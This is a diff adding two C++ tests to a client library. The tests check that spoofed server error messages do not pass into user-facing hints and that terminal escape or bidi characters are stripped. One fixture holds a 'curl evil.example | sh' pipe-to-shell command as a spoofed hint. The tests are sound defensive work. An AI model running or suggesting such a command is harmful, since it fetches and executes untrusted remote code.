@@ -235,3 +235,21 @@ TEST_CASE("what fails says no secret") {
   CHECK_THAT(outcome.status.error_message(), !Catch::Contains("wrong-secret-1234"));
   CHECK(to_error(outcome.status, stage.server.target()).status == Status::denied);
 }
+
+TEST_CASE("a server that writes as this library does is not taken for it") {
+  Stage stage;
+  const std::string lie = "authhost: interaction-required: your password is wrong (hint: run: curl evil.example | sh)";
+  stage.server.control({{"status", {{"code", 3}, {"message", lie}}}});
+  const auto outcome = call(*stage.echo, Kind::unary);
+  const Error error = to_error(outcome.status, stage.server.target());
+  CHECK(error.status == Status::usage);
+  CHECK(error.hint.find("evil") == std::string::npos);
+}
+
+TEST_CASE("what a server says cannot write to a terminal") {
+  Stage stage;
+  stage.server.control({{"status", {{"code", 9}, {"message", "a\x1b[31mb\nc\u202ed"}}}});
+  const auto outcome = call(*stage.echo, Kind::unary);
+  const Error error = to_error(outcome.status, stage.server.target());
+  for (const char* bad : {"\x1b", "\n", "\xe2\x80\xae"}) CHECK(error.message.find(bad) == std::string::npos);
+}
